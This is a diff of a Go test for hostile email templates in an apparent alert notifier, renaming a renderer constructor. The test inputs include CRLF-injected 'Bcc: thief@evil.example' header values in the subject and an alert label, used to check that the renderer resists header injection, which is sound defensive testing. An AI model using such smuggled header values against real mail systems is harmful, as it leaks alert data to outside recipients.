@@ -32,7 +32,7 @@ func TestHostileTemplates(t *testing.T) {
 	cfg := createDefaultConfig().(*Config)
 	cfg.Subject = "{{ .CommonLabels.alertname }}\r\nBcc: thief@evil.example"
 	cfg.HTML = `<a href="{{ .CommonAnnotations.runbook_url }}">{{ .CommonAnnotations.summary }}</a>`
-	d, err := newDesign(cfg, "email")
+	d, err := newRenderer(cfg, "email")
 	require.NoError(t, err)
 	a := alerts.Firing()
 	a.Labels["alertname"] = "x\r\nBcc: thief@evil.example"
